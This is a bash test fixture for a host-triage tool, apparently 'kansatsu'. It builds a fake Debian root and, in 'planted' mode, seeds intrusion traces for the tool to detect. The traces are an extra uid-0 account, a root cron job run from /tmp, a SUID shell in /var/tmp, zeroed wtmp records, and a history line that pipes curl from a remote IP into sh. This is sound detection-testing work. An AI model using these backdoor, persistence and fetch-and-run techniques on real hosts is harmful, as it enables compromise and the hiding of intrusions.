# shellcheck shell=bash
# hosttree.sh - builds a fake system root for the host triage tests: a
# small Debian-like tree with accounts, crontabs, a unit, an init script,
# histories, login records and a dpkg database that owns its system
# files; with "planted", the anomalies of the acceptance test as well:
# an extra uid-0 account, a crontab running from /tmp, a SUID shell in
# /var/tmp, a `...` directory, a wtmp whose intruder records were
# zeroed, and a history that pipes curl into sh.  Sourced by host.sh and
# scan.sh (after lib.sh); needs KS_MKUTMP.
#
#   make_tree DIR clean|planted

: "${KS_MKUTMP:?set KS_MKUTMP to the mkutmp test tool}"

# Three and two days ago, and one day ago: inside the default 7-day window.
t_now=$(date +%s)
t_boot=$((t_now - 3 * 86400))
t_in1=$((t_boot + 600))
t_out1=$((t_in1 + 1200))
t_in2=$((t_now - 86400))
t_out2=$((t_in2 + 900))

tree_accounts() {
	local r=$1
	cat >"$r/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
mity:x:1000:1000:mity:/home/mity:/bin/bash
P
	cat >"$r/etc/shadow" <<'S'
root:$6$salt$hash:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
bin:*:19000:0:99999:7:::
www-data:*:19000:0:99999:7:::
nobody:*:19000:0:99999:7:::
mity:$6$salt$hash2:19000:0:99999:7:::
S
	cat >"$r/etc/group" <<'G'
root:x:0:
daemon:x:1:
bin:x:2:
www-data:x:33:
nogroup:x:65534:
mity:x:1000:
G
	printf 'UID_MIN 1000\nUID_MAX 60000\n' >"$r/etc/login.defs"
	printf 'school\n' >"$r/etc/hostname"
}

tree_jobs() {
	local r=$1
	cat >"$r/etc/crontab" <<'C'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
C
	printf '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n' \
	    >"$r/etc/cron.d/e2scrub_all"
	printf '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n' \
	    >"$r/etc/cron.daily/logrotate"
	printf '# telnet stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.telnetd\n' \
	    >"$r/etc/inetd.conf"
	printf '#!/bin/sh\n# cron init script\nstart-stop-daemon --start --exec /usr/sbin/cron\n' \
	    >"$r/etc/init.d/cron"
	printf '[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n' \
	    >"$r/lib/systemd/system/ssh.service"
	printf 'PATH="/usr/local/bin:/usr/bin:/bin"\nexport PATH\n' >"$r/etc/profile"
}

tree_files() {
	local r=$1
	printf '#!/bin/sh\necho su\n' >"$r/usr/bin/su"
	chmod 4755 "$r/usr/bin/su"
	printf '#!/bin/sh\necho ls\n' >"$r/usr/bin/ls"
	chmod 755 "$r/usr/bin/ls"
	mkdir -p "$r/tmp/.X11-unix"
	printf 'ls -al\napt-get update\n' >"$r/root/.bash_history"
	sed 1d "$KS_TESTDATA/samples/seed002-mity-bash_history.txt" \
	    >"$r/home/mity/.bash_history"
	printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKey mity@laptop\n' \
	    >"$r/home/mity/.ssh/authorized_keys"
	cat >"$r/var/lib/dpkg/info/base.list" <<'L'
/.
/etc
/etc/crontab
/etc/cron.d
/etc/cron.d/e2scrub_all
/etc/cron.daily
/etc/cron.daily/logrotate
/etc/inetd.conf
/etc/init.d
/etc/init.d/cron
/etc/profile
/lib/systemd/system/ssh.service
/usr/bin/su
/usr/bin/ls
L
}

# wtmp: a boot, two logins of mity from the LAN; planted: the intruder's
# root login and logout between them, zeroed by a wtmp editor.
tree_logins() {
	local r=$1 planted=$2 zeros=''
	[ "$planted" = planted ] && zeros=$'zero\nzero'
	"$KS_MKUTMP" utmp "$r/var/log/wtmp" <<W
boot 0 ~ reboot 6.1.0-13-amd64 $t_boot
user 14483 pts/0 mity 192.168.0.27 $t_in1
dead 14483 pts/0 - - $t_out1
$zeros
user 14590 pts/0 mity 192.168.0.27 $t_in2
dead 14590 pts/0 - - $t_out2
W
	"$KS_MKUTMP" lastlog "$r/var/log/lastlog" <<L
1000 $t_in2 pts/0 192.168.0.27
L
	: >"$r/var/log/btmp"
}

make_tree() {
	local r=$1 planted=$2
	mkdir -p "$r"/{etc/cron.d,etc/cron.daily,etc/init.d,lib/systemd/system} \
	    "$r"/{usr/bin,usr/lib,root,home/mity/.ssh,var/log,var/tmp} \
	    "$r"/{var/lib/dpkg/info,tmp,dev}
	tree_accounts "$r"
	tree_jobs "$r"
	tree_files "$r"
	tree_logins "$r" "$planted"
	# an old, settled system: every file last changed in 2020
	find "$r" -exec touch -h -d '2020-01-01 00:00:00' {} +
	[ "$planted" = planted ] || return 0
	printf 'toor:x:0:0::/root:/bin/bash\n' >>"$r/etc/passwd"
	printf 'toor:$6$salt$hash3:19000:0:99999:7:::\n' >>"$r/etc/shadow"
	printf '*/5 * * * * root /tmp/.x/sysupdate >/dev/null 2>&1\n' \
	    >"$r/etc/cron.d/sysupdate"
	cp "$r/usr/bin/su" "$r/var/tmp/sh"
	chmod 4755 "$r/var/tmp/sh"
	mkdir "$r/usr/lib/..."
	printf 'notes\n' >"$r/usr/lib/.../README"
	printf 'curl -s http://203.0.113.9/x.sh | sh\n' >>"$r/root/.bash_history"
}

# What `kansatsu host --root` finds in the planted tree, as findings_of
# prints it.
planted_findings="account-uid0 toor
file-odd-dir /usr/lib/...
file-suid-tmp /var/tmp/sh
history-fetch-exec /root/.bash_history
login-record-zeroed /var/log/wtmp
persist-changed-recently /etc/cron.d/sysupdate
persist-tmp-exec /etc/cron.d/sysupdate"

# The findings as "rule path-or-user" lines, sorted.
findings_of() {
	jq -r '.rule + " " + (.file.path // .user.name // "-")' | LC_ALL=C sort
}

# ks_findings ARGS...: `kansatsu ARGS --format jsonl -q` as findings_of
# lines; exit 1 (findings at or above --fail-on) is a normal end.
ks_findings() {
	local rc=0
	"$KANSATSU" "$@" --format jsonl -q >"$tmp/ks_findings" || rc=$?
	[ "$rc" -le 1 ] || fail "kansatsu $* exited $rc"
	findings_of <"$tmp/ks_findings"
}
